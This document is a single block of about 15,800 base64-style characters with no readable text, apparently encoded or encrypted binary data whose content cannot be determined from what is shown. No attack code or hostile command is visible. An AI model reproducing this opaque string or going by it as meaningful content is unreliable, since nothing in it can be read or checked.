UKqQfp7DVj5IhPohZZwQnUPxzKtchPqBfPn6FGibaqzmlaC/4P1QfVaqGW3T7i+qolFNTgZ3vcVluNJZHBstCTlS9jAgKcttirsVmh8mxBuOSclVj4LnVv1kPmEdLEaqfTa1PzlBI3nUbhWYNQ8dLTkelIH1g/GxAlKy8GDiT3g9fIhcYnmp7b/x0Kua1ypF9h2AdTGXIJjBtDtPhK0xF/0mujraisB8U6NqNG5nWET4FzpbIIQIooXrmGkbOlJXnHZGk2JEuhxdRZe6++vA6EGSkebVYgxfAbTDnRBekZJQXyNMrUp0NW1O3vSGxRqfEUSY8n5ZjmdxneA214wNfkTu9Nk7whlN6gWyf6S9eaYlA3TQOCu9uByPey1q1svEFJVjGOUXBIVOebk/7A6SZ3izkcKCfwSuq+aX8YAWAbX/HVPyQpm/fweHhkYhVKShiLxGjHXo5Ia1yp+/A1kp2r7BbXGPr5XomEmjtsVFR082/RzdUZeVDXkqMt6DUkwQObNlv+ebdPH9vwzZ/YKh8bJBVnN6aNpw+dPi3ad6YmaPSTEsF55MuuISZAwkAVhNhSB0tTDwCku5+aQ3101BYxHRnMpyt7Jh3UtLWD/PcVwkyvGTQMc8dx2zTjTliPKEZVz8i4e3I+UHeYxTwnpOn/m6hGFE+aInTNAfgC9JJUjU/XpAv3y/mkIbpDFEkhghbid9/E42rUqV0QYdjNuIf960tPQ9F0AxhTEBCTrH+Pis4Nt/tYvCcWv0tS4f+VxuPb65tALbTj/CUsSZD02zqvjywU84E2xooBMz3uvlruceCeL0TdQ/dwF6xVhO7iScCW24vAPxZK3AU7hy3NDfxWdi0bQxea99AjqC+fABBmllcLk55Zak7LgplY/6Nczm6OxcH9dOxMhMWug31pkjSI4gXBLpEW9HRYHdLf81ItRVgvL1a+avmJAnchjohrcjc8UlIkUldYl3vuo7ZEdNJ93L0uu+g5UffZJdCv56y6s/6wT2I8PpfxajR0iBo6IbVq67JFC17cmGf6/lX+T/A8ssQaoNArxUy4Yin5hfWlzpviXMzZPVhOUpLcb6jXBOTvkILmxEeGtzGUtWHEkYWA4ge0GyH01oalI+c7heBGTO5s/3jO3GChkFn/KKmHOphEa5/A1OHKJy+MNTum0BgxR11IVrrIAhMo2hWnRq2yZuzD361f/FW9+PXn7Xcgla97oeWvtfjB9JGlgZ0EFgXG8mMxQMTcakAdD1BDhu365LsufZs6EC1E8/X0TWYB53pAIMa38mDJmLwyYvEaimGFhsmIdEnBcq9KYMY92M+cxaXslYkmbLgrr6LE3qQWKykUtBFNN3qNs/9iVkId+75j5fr64YpCKGe+XnnAgEbOOvVEW7Mpq6SKSF8qgNy8+fbUmYIWoQ7nb5AfrgWe7qtvAyq7A2289MZgCoQn/UJVVSu19vM08KAP5cG95Tq+bif/xrMh2MSffO0gJDd+aaUHX4NFnIOGCfJ6L6u+q/KYAXEuubUsxotqqI454XoH0AYPqeG1BVs9M9Kbgu1QxijUvP56yIgt5olttpwT3OxHPr9v86gijMtL0wf5pdF0PnnEyX+QyauStCunlMM3uBjmccI0NcKEOo/eFBbHhX9UVH01lYDdJEjTM+cojqa5WqiA+BB4NML/r1HkgfjKWtBp/WzQ6XzK2pGnQS5pMD9B/lO/xhbAYna557cA4LehQV+6q2tnRNJLP8pfAsQgoD9uN7RNzDMya5yC/0URx6vKoe61E4il8qXdo/8JH2SH/oI8/nKix9FKGqjN3xSWZFkoQBV7MX4SS+DJb88zazl5nGDLaIJCCdkIsKXQKC5bkn51mMu4JrwZ7kU8lT+J1joU5CDNTPL5TqOLVj2aqTt37SFPO/4hezH8v+ArkIGdI5cdOjcw/Gw7+spadN33awe3Nwxctr7JTxWDpsflt5QA+mvkDYnI1I8j5y27GDTrM4HzmdC0Wo8YqWP7+A84vsxiWf+MCufCEPnE5F02PVz6VfwcOityIzUwCzCVohleCuWo2aUO7qhILIR+hu4/ZfYrwDMEmwoLbyygSyb5kA6OrCsGN7GTvrE3puP5eXIPuwQPwu8Gyk8AVV0ZECXBC7uI6VUaPtUvxXoxbAoINClJ0r2y6NynTH+s/Qn7oeOLySbjgl4quLWkkdJaNeyf59Uc/JLJPMkkQhQ5A6UuaXCAGq9TS5vQRCMkIa5RHu9SlUztxeHklDmnVX1E7baF/kOJiYmjTREfzhx205NW8SbGa/xO5XtMeJt2k63nm21BfIAZky/4N7Cp5BDQFc83M5JTFn3+G8+9uqGmDiSxxVJBaSUCVkHQEJASgdx5g/gnlZ8dexTLGVz16CMl8skzSWoKyG6EG5v7bg2NdVERmiihm7ML1uup0VB3CJHPLB3vmUgfmBcd2EELSCIJ1wrc0ID98hm0T3nPQ/PqemdzulOZtV2Ymprap0uaRcT8bGD9OVQ/47aEruPb0lg1EEEFBETKDBKjEN8Ry5BNjmdhsTm04HD74weAEtCscdoKFfw65S3bgF9OjWxXPyAeZp34EjeF1/NBqqPMTIYFlsMH932h0453Dk7p4Qkqlvs/bhWg6d9kSPpDgBxCODaIaPxdBAPtjmPZuW0Syv5XWJGb/ggeHVaJuPpPwNLfcy2gbEd5xusm5Z4wKgWDO8DpnOWLZy3HivQihKYvb0nGCP+bHTabVn8P7XDyk1fOsCeYQPzcSnEhUyvqwBSHxKXlZpw/ZnQa7SVTGg0bLal4tV4P5FARUFiuWq6Xr64ibPX170XlvAutunOUn7rSE0ued+S8JJ9GabgxhoC/sk54W2EHUZHgqPQ3geMaTewHJcJDa0qOJxYDIx2AZCsusFKbzwsjANTdyGsj5TwcX//5telQ3L9U1JH9m79a8Dfmx3nF4+0Sr7jAIXRbgJ2vYeiqRtzYHxDyO3cOHff8Q9u6vmZ7ilI9LPw5KPiZuFbLsQNinavcht12JnGcykwbzxt9/4xZakzHPQZrGuO30ov1mxXCAp9KN+on0zBIO4mJ49wlKvtAZ9mfML89WeqMKm7WIA/jfxVnB117IHqRer/qKLAdxgUNo6Comve7aQ4ZMjgcUsMkpMzQxdJPLv91rgby0b7/ZpR+VEiebOhvHzlDd7QewpqEvETI9k1dM013iOwfRYKYQ3bGN61oCHcunvFcWeZXCe7KVuZ/2X808X88KqOhtHxg3laQUeElX+hYTwEWlCY8zB9LGvgMeClDas2JrrJHDkfRVWjm4aQDzw+TaWLKJhLXiQ/1Len3QJyMaAlp7+gLRZPKrbgrWTmhodi5vk7VOW9P2ikZhhcfqUfbLjXPYfhzYzdAojKxQHkGYXa0093VLsJDmmv1sNaThNfE3W8JdxtVzjUKqhJlt2xa4fHizaFCobYiN+bY10hTOwYot/7ky3zyOxiCOe16BNQdOg3//IIvyzQxDYy09oZ6MYs600VtVP14CSsNvnHvFqtVCvLQKSu+xlulng3atzdu3VodFgB4OKYHeEAqhMOoaqk/pPUL8KKoaz/iuGuwstI9OO8u8ehnAaDdEMZMtD68iQ43Bh1efl/yFwEc5iG70yOcrg2xLMbB4iKv3vd6xYV3JZQCdVX9jL/9Nkc6ag6YNRYNFRvlH7gmNFSfuv9RDH/KpGLYy97Vf4ttomQ9A1gMvvRPTYcTPvqFG+ncTtyoZJ8wPhSDTLl1iuYExJAa+5vJ8cIfaQILf3BRz2bkthC9vnDEseHv1YUDN89sR5S1yEGyT7kNNtCd7Df5mdcNs8zZYEeRnf9bA3D1jK92qe8ZWGogSh8aW62BtdnNzwdwYZ2sMfrNjpxXKgMFJnWkrwCa031qapR6xDJ1A+a7tbSHecQzb/CMwPser5DqsQmhnSsEo47Iq24qS2aYoV4bEMksUZIWPBy7/LjhrrqESVupUokc55PAZwSm092OUoItnKEAXVhLIc6virQYn+giZT2LBURogeBBxZu8xr/NyOOppGW6NtUDgfJZ6/sPHwkqVe8pa9EJpYO0hty2QPOAaVtyv7bS/Jq8SUb13dA0P+Q4QXfkaZSGsjUhgH53zGixm8q26dbor/dQG7lzyLy0760uqUeznJ6mgT9j/wZS/Zci8Bc/D/oC2olpjv7Kx2AGsH7wim9C8FW4oWR7GQzX091kqnjsQn4I9OifEA+KKMaH1d3c1kJ9Aiaf37pEGCFBh2SMhm/P1Tjm5itKnObxjy4u6r88us/OY2zEE3P8jGhUFSijotLleJO1ao8woNxkt9w4LY6zyCY1LdmV5FUbSX64ZY7TC+avzyDeKJ7DASOhMUeUw2Iv0d14HyB/c4vU5K/fHkP7tm3X0iG88mhGGQe22dsMss7nDErJ/ROGeeoEFNqQcC8TDCA3LFnFUl/7lOpSmKcaDSEiwlMExotV6k9rXnjk1BmqlIAD1SXRH5K8WWvvdo59/NKqPSuchaJqWapolxpPxxfLKXYDmnCENBaEFu0sEWPxXoliJ7INVdoAviqSDh/Pzhl+zzuNtWj2y4MdnEF6Die5ci9kXUByF9ny9YehdcbY//+wWd2LnsBUVyX5LnNXgY16hcLg0ig5CZ2mvyfR+az1Jdp57cmNzdDVXo/fcsIL1gbCnyatO6wpyYjNk0ql4ayiB4VyTxgvP5m8I54NOojA0fQdTP59XZ9oPMi7Hgrftm9xpp40VGT2ystJo+wrzfC25pF4IqvhsHR1aFwzfzrvWtQjHouhW4jmyA+OEzezsMLAXAIEus2AEJIPBAS8J7xn9CClEmzBqvLG1YoXiwPr5C34Vx14x6PFY1KLhlEn+1Zjo74B7L9OyfK0/yNoU634VuEN0I7qM++cFyF7SyI4cS3IQh3v/Opxbpz0cvxnD6Qjozrsm+aiackGwvQLWbG1yVT+muFu5pTJ3Z6oMAzJYro13wcBaXGTgH8xRGen115JQht3PR6/ZzDcO+RN+9hohb59vRgj1Hgeb86VWTO0hBPu3WwAheqjFgeR33hfztvvSaGjvi93NKGNGm8pYkgMsMeTFNcefCIeYoBJF7c9oVBE/u3PLKQgOqzDTZg2baTHChMp9KFkmTTglMX/hsvweMqWMQukt7nhPJ31jCwnrTqu+ZXNQvfg8l6IZwfi16iCMdxakgc7wVRHUWqsCVGtmWBWLilI0fFzKV+mmDrF4WvXG2Zpf+mCM7Nzf0pD+35/Jl7DgjKbC9Swc/tm2z5hPMec+Elbxge79/ciy5MVIGh0txceAutUI8XFvVMpFbqlsnj4BATa+ZtiBqEQhUkeSbB+895HGG2GK4Btz7J9BDEm8nbAqTRHzgkLydYPOutTN5+2jaF5vfhA9VPz3OwWczxMAzyp9momrMNXFHkurZ4eq+fzJACxEmIBqd6PxgoWh1GWayl2zj2ApNjVGY2d3y1TZJaVMPSj8zvUvIUJRUF4wJ/wLUTezY7jPhynU8sn1ULkNFBlMftYtW9sEbb3wVzGXY5Um0Rfi2tWdXfn3OwxiHEHuaekSg4xUpHbGddIEVyyo54DAZ/gZ0AnJ13ukOUmyYFsoFYSSWKPxjMUEurbEosE7K8tvpig3+QWqSKwPP1HvbfypaiEDdFAAVrfdM5UKJ2FCjSs4O8hp/2kQvwFgeKrhU/feMUOYLNVhRYfp6tx16cXsgpuK9iMTt+qJqUq6zf9ZdyarupakFFa+EwU5MJVAxwJ81kWTcTeQZXkGt5cTTo3gsIQewNrW5wJtIEMbcpA+1PfchuEV4R1M/ZCnsMgSVBnNeF84Ff1Hy4eOWLS2aMSo7uou0icKH8xfIwvP9oa/ontQ6YxwvVyzKWxsxni0Svb60sIq77xKUbv8RAbfVbymgu6KZJgb1AKxvXZ7cUeSlSJ59FM6yFMuUYwO2ilrKIqdTJ9D06B46PcHPS5GPY2rfwjEF94TyPM4dz3aeIgu/DcP2ovlwQSjlizjRDL/tQ8DKZYdtV7FT/jyK6zEfWFgDmGykCZTmTs7FHAeSdUP/EKB8L3UK4pxQSWRLhnX8ObnNT8HiiuEQmNcmoKfbVeTQGR5yyst3qV5PhKlFlydNKCX5k5qs0E1fSkuJ/An15p1p4/Bf8v5RJIJBo34QHizeQ1u6DqhOHwavMC5NGfK/OtE7TNdZzQ2czifehUdnssMk3E810S9eQvOiMXznP9aw0ewRpjDNUN3u6aPd3pZ2DfOoZN5TaRGyJPeOFrvLHYvPj75ZhUivdDjV7AGw8BhyNQ4zDPGF+sfKI4Lw4T4rrYUdK5yDt3LXL+AiZQRwUr1NpqiJcqkVTexrPonM7NLbL0WN17STs82ZsvOaIb3UCJtssDrzY5qThOdEpMMzsphZeaBIZSG3DoJhhjxZjQ9YmqlwRCZjz1lL/uydWn1UOjuFS27DzmbamYjg73d0C41C438xeTqDEeQWgZrMiNH02EONiSO51Fs1D35rJqqRuvKD6CMNM3nerOyCIbCnLTZLNvoy0vjXk93skei+5awZp30R2h/N/plT1/9frhtkXRGRrxA3e7JIRJ6F6P3tJBN3x0MWuKast98XYKmfyPIgb7wjre187Fg7KjzTNOxWd0P5SEQ/WjBuVYL4u99zcp5kEcXSyB8ffrD2AvFQRAmsH+8ACq2uzuzcQZmv9s3y6hKttAMhwscg10c2Tcwa+DYgAgYJ5UkF2elVAYH7ENrbcgY1SFWimk676Y+TA8DYbBcHj3dDkdOlxvJ+o/eXaR8zmOQzpyaI+RaKgVE1wMHdG+9shkEdfnymFrTzVO+zDpcqxdFnAjiiuPmYFWy1RekF3EhnXnlGvAm8RvIfr0LdRhTXBrrPCLzi4N3RLDKWT30Womm0F0UkVJEv0ecNSjXfBRDV9bIbc14bFPEIGUz20Gu4Hh1XBsnjWU+1KluMSuK76MW2UrnnLhQJk5AN+f1dmES8NHbg9s35mWhLH6dv7kYX344CSzxZuJU/b4b0OSknlsiHTLoRGqfBEFvLVCOzpDpMRS0T4+OB35qJe//6Pk+eHipLGee2NGV7G4h88S5QWcRth3Kqlk4hr/irzECdXuXLsVuBcgwKNXCB0s8bOeRgtRkbOmShiD+pxYI1KGU62W6TO3teY4A5bI/cBdNMiJfGWpNh8Q7SYpaWuQ0cCD0f17xsX40QXDn2VE37m/oc4FCa9GZZJFowSCTYh9JFGscLRjsD2mC8xqNVuI6QtHIReI53CfDsBJn/oesUNmG1HTsveY7Sp7dtXqNhe0dhVetaQQ8mWQmX+82B0PMSBsvaA4V5iIWaU7AVyQM/qflyxLrD3t1+YF7lzQGypmjuzhcLkEIgXQ8vOc6uKS4Jmachv7LkpdU8b90e+/MnEnVKWE0SVLCIZz6p3Fu43Az11zsJlFe+QW8ySmeHuvSGDbPMGZ1hkkoZ7wJLi+oKcmgJLzxdjtvTkPXhwximMGOyJZ1wkGKYlvVxPEmsrQW+pN9OmvEbdOO/NuQcMJEk4jm4Lx0E+EPoy/u6deFTaS5WIuFLJXf8uM0oEG/bT3lxecFIwrXK7QeSm1WWJZVFy9DcXB5gfvjRHSZxRNJKZLQK48qTlnqn+J596Bw6bQnUipku5kJwDPLEBPddZekYFnFtUC5P1qexHl7DzryASIGtrrGmPHoF+wkhaTfqFlrPZWpIQLXQyCcVDg3KLqgwB6n1O7dQlDluAKVS4DTmRuW542kd4n+PbKjN2cqLgpBBst2GLVCStE/lEhIdOBIKgEEwNExPsYsu65oW5wxMUE8AYC1gCWu6oyCejKivMaFtIegWzKdsIpcFmc6XIF3AgW/LjcSPSRzJ7fr2/mKbAd7Qq0I5is7JYOQCa9Nz/JWFnl791hVfd0+OsqDRNYiTuU87iARx+yQoRN1bGPCQoUyv8UQFO8snTC8+ghY+DRLxiGNuIMAS5Y86I4IOBn6XTJ/b4RI8o1IvFX5f+axCVmm0TxCZpRH9lvXiBKQk7zMMJ+nU+yhGbuRRZwK+ab/lcaIYN6URn6FawjoADSs/6TEpiz7XsJy8faK8LOb/Mkf848P+euoHVdtXpN7JFdRqYhbHF89gd94qejWP5I8eDURCLtp1P0A0YCiR4/nE/fC8t0AEDDFYx1RPBt5uYHQJuBaH4I1k7aNE0IvOKSGmOdEJiwk5up3Qy2TLyrcf81L7NNAsvz00FcL9WAi/QEFwModH3JF/F8In2dSA30I3JPWpYcF7UYbqHaxOucMGWAEMJS9fcO32UGyhwjzbD9kYz2c4UIRmLcRduCHzb55VYQbSsreSpO01eMIHV/Spt8hcOhnsv/7cljZ0kKa4HVj1viwMTUJ8l1IVv/5Ul0J7b7I4KM7VWPWp2YYuVNdnv2XoxVIi/FzvYcC7Mgf5w7kQbKkKj/+N+DweLJa4e1TmKf6bHZuaIoWNG0ft4LFIoX3cE+hNQ7VIO7TRucdcuywLJBPCfSKVvvux1aiseSUhhtKePaK18v9fwMzDieJmm5LC5o84anTZ8BFvUrzxY3AcyzmmFpEDb5/T1PZWKbvbUM5U/ryigeF1Wh1NW7prK/hRkFi5mFcd0vineOLdPJTamVvGIgHeJBnLT6Jwep470CRkHzwHiDSYFb/75CYrREJqy03sfvnGo0hq5O9kSTWf4jMdNn9dVMnUdbLccP37t/jNPPsSFpg7V8y2lAxikIt7Ui+ojykqa3GSwKy9/BrrYfT001+fmxPR4rgPsSHFplCOk62NqTck3KOgtBdHEEtvetUBsf0k2CcdU+7E4UmIG9qIo5zyFSNjYMlUhxzrQLxKw3mZo0lsW7hCbRxNL2R+zlhOHdUN839/DvtGnrRwVGQYzWw4fe4JXkicXka20IWRmvs50dwu0jMIcnGQ19PS6URoYAsobDlGFvPuXr73KG0u3/n4v5SiOz4DMieyHh8zy9CpNTOKBcnk3rnXw0OmOL4QnlSsUQflrp+zW5SMzWrYmDMH/64s+y9oogHNXCkKvqry/zq1HBTusScl8sMArOW7Deh/6RXlM74U+6PR9osJcn0DwT39pIi+Ms3LWA662PTa6DDhvLSFcGo22WmeIK0JZC8y4rsJmZ0SvyiogOC+ToKrWv3ENP2j90fYCnh/D32KliS19Z8E4NjQx8OBtNg3N7k7a4FI6oHWPam2CHNzoMOj9vHkRsj8jWWSg/Yrq9T8nfHm/wb6diTJW++xLoX77ADOWgZmXl2Y6VQZ1CkgKrRLB60ADXiKqp4du48R9wWucWsTC6Bj6qfwIWvB3TcsowIZbBZdP4AJBbNP/SLCKMsBaCYm4GNUSVe33ihNyYKqu++xQjudRrYldZ3UprLM+2i19yBE79gncFXLS7HApPv/CodO0STKz/oSRD47FKDr77W2nT4WnalN2oFGJNrZpivpiJ2tWSqK5XBEfVnwK81/vAXDvm1saQkzXpu8HodfweUe4Mu1K8wvBGaseYd449VGFsRCnCK0m7KJiK9CO593kqGoXYlPKg7mGolK21RfwaPBqWJtX4QCl+K4DYQq6XJ8v+j8d6iAGRoszaEn4YwXF1HoAAHlDTWPxfSaIQMTknQxjjLIa+cG0SeZBYn+SJ1TT2DmG27ewINBPhmz1oQCWmMJkeXBf+4S4UK4XPwfkLPeY9rVhaEEpfXASCKPBTZtKi4KKyDjJvz38o8LakMxA/J9JE6knFE7FWhTvuMXvNw5+Sc1I20Vtyo70fKTaibbdBXGAdreb+s1Ycnh6WQaw3iTQTw90eO4oFJERdUQemM0MNWJfSKnILM9GNp8QCJIF0ZfQbg+1clXKaf1uvgXhTcIFi9BHiAJwdWhS4l13F9hAtfbInmmmvUMs/6jLw51X7XgqXYSv8wk4GY99D60mxFl5x0iDVkqRo+zcvKX2izFjrEwCvcADnUn0jcNvMzD2EcKlMiZnuEIu3Z00BTY6Ff0HVQ/tKWXPn64vmAqdHfhf3IuBVUa8/LNCmt0Y44Pj/9UwehiHsZd1tPm8tlL6ifE17T5uAJN6sFSFPFVKDoq78Ob9Z3efs9EkiAznoHOpS4/he2zYFCNB+oQ0kBoAuNdMdEZ2TGOfBo/qo9LQI61nEj7AIT1war7hXiK3mGLLTN+UloMPT6RHQefWMhM+GoHQVpSMvAjVCfsWe7oZZe3Cjg8ZIG5ysAW2MxveefJUMGncX5f/qhzikStthdjNc1uZW4zzf6JyikLsno+tzcqpphflbDhjeEjam9nm+1xL23UEOJwniFHnPiIxwdY5n2CslrcK99aOqo8lyemhFw0h2tmrDmlXtntaVXOVuILhU786hzH7ozGh9DL2O2OBRVnKhoCFxHLv+jnyu8goeg+i8YsQFDOcne5DA7bYAFztIBolXune2BJopO8B7KR4H4rHlvbFUfkMIfiwvTmY0tHkwybOAd9Fdcqwa+vU6Dzaf/9VrP4VvidQzPSPKaOVKIFC2vkHIW5f8/cQE6dKQa2aRAklNNjQ8Nyqc9of1YWuWXq68XTgIZcSl78I+H4rqgPDmP7LyLmTzXI5uavC/Q3X1NvOHBVnbqjqP51l30lDtysH45ggJH5qNwz3JW0Io+6gH1wfBD/gq/ha6vb4OVKYEf+57nZoYiPr4klrNU74j2dJaqysYPU0nvYVuF0klVZzBmG83hZDRVaCHmird0pbzaBPrq60G3UPe5U8/+dBfkLaUdBbM+IhF4Bm073a+NN9os9v77wAIj82mosPBfrnUCQFdiQj0XitkAW0cQFEZICz8Pp4RV/v83nUBiuLnUrFS6B8OCksoAErNPa5YmlkCaZZiVgH6KMOKr/R0XHbRvgsHAJl7YC8mOIyyImSEbt4t2qTSol/P7KqFAIkUbaMn91WR4j9jkABeHIcpTzEIOhDlM1nq8MghO+9ahnYiVnPtkA/hy7eH5J1OQrmQdTSK0OgBrL4tmmRX1TDnmm/XOcdczfcvEErWl2jPPMc3zccwapFYu5jDAZMDFGctL81p6/GUjqeCohkEbNZiTAAvWTRgeAw511f/l+T2qXIn/mdwAkGJ0r7l9blTcPhif1gIWtua/O2VygsshNk/Qgta3Ci7LeqJIM2z/O5wzUgHSOLGHOhGZ3e1dllQOkAkxvcRcLu+z9PobcZglj+TSzX06VIHn8daLUHAVL591HCUdWN+VI85WrdFZYaVZXXiNdu+Sln3CqkRNxNOdrUtjp8xcS6YIFo3TB8wkqJYqEzHcgaiZmsw0rEmygK0nIPpr3cjScnXYd0xGs+WT+N5jov9xYRUcdOKtQm54+evPUITDYI4S5TjEU5H2FZOT5PnjAMLJRBwLfevFsHMmqTEuP8WYthDB0w/S7nLup91i8Af71ZqjBowH0x3s6ZG4YR0kZPmM/+vUuXDhwzkSMJNSjj/KK+7qi2yNZSgR3HtlF7DiOeL1t+glkFgMt/vIlETUKJeT2PJ8Gch7C+rTt25hEmmnl4KCZ3ksv2B3rSPnOQY7sI6hWGVzD3DT83tfE4uaQI7oPcKrCMqYq8tJSX6AspBN1SyniSTsxJS4YxvKHOIespQZsP2/kv9kkBUMejL0zTKDv/Io1Gwu0bGLtZF+J2BQ/jOb/CEblCMczVfFTqu7v/YKNxGtCYqXirP9mu7tRAymEeDxMlJyQdxTTjtecVw/P8slMx+2KQKEvTXwBGH19Ql8d3NZuSffG15qMzsl4jQLmcZ+QdMMCsPKtsxjtvbihlFpe/9rQkU+qxgvd+y3R36SbcXAEddd44xXUMZtk6ehy5fZY+Ip8ASay2daQSqlnrSRULm5JNpFDtNiwINMBxNq+6TEXcPVZZHIJ3Wv7ev6RXnDGsAj9FrzRJ3Ftof51Pk7/GhQooYh4l4ni71uAkrd1bIbFmRligbtIirAJPsH6yG1hCh0OvEZskUhqxkF7nUtuRkZoKozY2c7n0ihcyiZYZVQnp7lyttdc7PvSTimJbntD1NTxLGrMAxD3h2rKVsGTbbGLTAZ0tevvjzNKGICGxxrbRE2hjp+7Tt3h3AjXaR8TKJvsDaDrJA/7DpGkuGeMrcD+bV8u0ROS114ZTTcQGC4r0KtmbSpABZ56PZI20Iu7saIgpw1k6bZhr5Ho2Em1EFPVyF14qsi80IyGDg8REum7/CCu+0K5OW6BV8Tz3bXKUii6c6uOTr++by/JxqMXb/5Zw4Od+2Pp/qkGDJEGJ47BeQvRHK4zbeflldiIs0KPGGCMUU3gWt090r6E1AB/a3owRU3fcYEjZ3weANUnA2BAJ06cPadV+5x5GH9k+V0scC3Iu42vt7TawteZUzkS9epFrrkCdjs2m8IMtk8AfSJq6vKhsabObmSCk8zw8Y31rMe8D5Cw5TUOa2A2eExSKBkeA67IJtfjhhRkxDAhor2HBupWFw/bhRwQd4hqplpPaR/oACiYVKgpNjrz3Og2LFN9NXpmk6jezxrN7mlrdk5TGDVtNVLqq5EChqR6gUdaJV/ktybpSjRvAsvFjRbxF4VVrUqDYi7mVGEd6lC/9tLhASb9Q8al1kgb3c3xN+sia3M1Pvy72zgmbszjfgMACtlDWjBfyNlDr2bd32/wCObw6ZTC+jz/MxZXtDAuBMUyTUwDgraPYTpMXuQz8RvVGzoREHM8kBndy/GQfc6Ha6IFKelBYdzRaI6pnen8WwnUpjSrDyaL3H0MkqA8hGUtNC0MsRttblNaJc3gtn4Ri9bqGbReITiuytmG4pcHxIJNh0bNXmil3j/8rbQhlgy1AfJN63NPN/xIFWz5//rWWzgs7iMWyZcmSQxh0P1Tim+4mPNtri6Yy4tCHgh7y8POz3WC9kRlbDZb7z+WF6uQu2NQMBh4Hi5SPBRYywrlfHUF6oqTb9c/qw+QHwa5zqYyUflhqIbKcPik/MHPpMB82zAMRcQAUqDjCsSSUeo73+LOf3ri5Hor1Xf6+N+rdd1JG3BCYOD9OpFF9OkWFLc4g7ywVWnMSOriisbwz1GjUxGoYbbwIzW48pMDwwIpORY5aOTzxF5ypV50T0heNhbzO5K1eXZNbZUlwAXVqVjl2Xth2mOzi5pn0hHZ3H5tfPt1zm+uIPiyWmOaphfQc1RMetaO1ZqLj1KGnuZrbdTS28d2r3q/FlITEtm7MW/NgAzpYXZSvf0YntEFxEFD36fUEne64zyQJP6iYq40pwNgWJpb8pvkhRukXDb0bmzKR+bDNyH5nynZrew40fEuyfGQqr/hJ4ZktaAsQ4AWE3vU0n4B8EX8B5MIM+l6rQRmCbcZSoGztecmzfByUVt/68mhKjs4XWua4qbeWoTyKltqhOQ8xptvpfpFhZHuWRQtC8H6UH6AiV8eTEcPQM+I1A0nDl9nAcv2W0W0TMOwjluVSFitWqGK+S9VOfDL7nQbxKqgu/lza4GidMuflObrAb65/0aHfE5f18Venwmlg0pMKg/jkqUwo1tVFThH2sAK9sbNqpRSBYE2YpNWw9Wig0HSJvaHdxU3mRzmLNqSFXfc4bB1I2s6e2N5imOfp9i5/2JzSNkgGdPEmNxTNfTDwk7cUMKe4cnBKJUh9PCbNy2FLYbEtK/XcIsa85IpUMnqeAqq13+Ck7YhMX+X3jwFqEFYLB1kBdSgHOlekaqObM4IIaa0kVrXFIpzr3WUW9HaVbGoTuwfVYj5zOo5t3uKnnOl+k3DRtaJyQiGcKyC5MHcutdEvyo7L35QlYa/6BWU1fzKVVYx4rQD7TSKEpU6ahiDUj84p74xLLnocRv8ZFTQGAmUrtZyTuttog5ErIbz8+oHsafNxfSQmnJ1nVwG/ovv7lwE33jAUy7ObYcB5fEK7Y3+BNoDAxWlF6cxTEVMoI/a1mb55n0o00L36UtErukXZD+CDtusEcS9RMrlrF+v0N3VtaeZYqRW9bHo70mAI7COXfyZGaxa/t4LrPkHTkEXF1CtfNx9FdtqtKYluiMN4nffYFG4wnn+hSM8kf86XEyM2iJethHtnVE5G3Jv6HrnoslN7jas/+cmoO1ABG+hmGrHYJw4TIAz+n8Jybd0gGTJwRiGi215wHoxintsMsUyXjMtS5TzhAKq64k5r95BLOXKw3U/Sa1bDsgy2RcICN6zPij6Wn9KoeWFXxp3RG4DfBcEF0VZ6RiIK/ar5xyXE1ObK1YUj6b3AuXxxTQj1tYA1zcHiXT5T5tZr2ACb/JktA7iuhmw1Z2uHcMvBDSQu5iajEwNRxaA1gX74E5A9pD6d7Inu55PeYCLmneiGEg7I+fsGK8Hi3iJmZE/PdkVgPmAs7uZlC/jLTIoZb8pk+t5ylq1DvRB9fdgVOWLfw0GULVJ9pFIPy6aD5K6zao8k/WcLVIhGpsaJybgL3hzPqBTXMnIPAyxmjQGFwvkhl22vt2Twww0vQTQTyumOPhLqvzHmflDGBcSHGYBOlPY15veo/W/tAc1BQaIA24N++k2ViOsolBI8Hga1l2i6wWYrxefHxRpb86+VVC2a7uxgC/ldLKvQSLa8iS5f0NssBH0KsedawFG5YfDHCt2VVCGkw0enHQK5RgTl/wJ72AH4zZIa+zRRtPagRvk++/SOKwnp4LWmIN3WHbf9zPEwAizm+MMxmkdSEQvRwVVf1TBOEvrW8OTNJyD48Q9GP/T84S4FfTSRBx9q1ZL+pA3VPOYlcXC3+iLc7ChDki10jrGLVZCep8EjxF4cl6AwPPdsJE+1jk8Y1m9eiKB87BzXmHq84wBozWpS1g3jJhw3nXnK0uSLJDhZjGZyjaZJ1ay6zt364X7uMjhNvyQza4xeswjESOiM5Irz9v7Kt34xezxykIbJHKkEwfoOqphwfPZ70yufGoeChnA3vpAd2YP4OwTeMpri0EkjZIsyvNL35VatdcQifG0Xd6iUXAtpnDLnpWdRXg9cSfqTEkeV86oHgW5OMbB0k95LH1u/qUvGRcvNjIiQK3hGAnR+52O0asKT9LwezPzgH1c8/aOMO79mSBgcZCF4cBVpvXQZmTyCDlyR4zwKCPc+rkv4H7t8au8aKiaA1Yr0wqXX5IasrEgY3qbJCw5L3XpzV9uCn5tQM064UotLAJ1wEFgZC2UpcshHLVpx2fGBicp1l1dSTDFTxBQ9Ql2e46BiLMGLYtilp6I68OYm2h/mD4O05VqvI9FzuF3QrRaLA3BrTXzz4RgtuRHY6O7SY7apQ/IncIHhOlpG5qSCWQ3KUnMak8NJHS0XngwDKxm+yO618YFV3tbEImwLorjcr7+zfkbGFx+/s7ZUPFFGT+DtNACv6TL6nhSqTLbuAMqmFYF2JEES1HiObu4mtD+rZ32QV/KE+w3nRoEJ+jkNprAgoQpe82seTMAMHi6/uobWOBH8QJZd5gm4ShTSlFMtWu4WCrW3RUVtjx8dhllSTHdzDmWDOqc+Pbw+CwX6nB77Ymaoxi3g9AQz6jaA8QbeVadIJCqAuf5gUtk/HnHdvxYuq1Ppi/EXAfnN730g+r612dN3OHL1I2HqB8As6LKMpE4VfRSPk11CC95bTXwUF4kJyktLqIYpN+bT+zJoInB5srSFVoLe2R42ibAIU6O3cOOtYW/jfdSsadeqBCfNq4yq56kFwEflNsCldl9GZ/XJwjTUVce5uMm4hbVpPNmf44G7ShwXY9eaL88VJTUWfhymCqIC3fO0jcP4BI9m+5k4PyyAMao1Ms+bfuZsjGy0PB/kAg/VtyL6H/s0yLKKSk9qeLBRqy/kRxkMafu2Df7fjZSzPWSWOiN2c25rnPEbMwVk7v7sV/OXYzfvpG91y7EhmATpQhN89GlDpJ+gDxhuGgdNMySePdMuNBgqcYtst+uLkYRfUn5coVSvnO0hk3hF6dFz2zthJvwVwBcnR/F9/l35XEWdG9a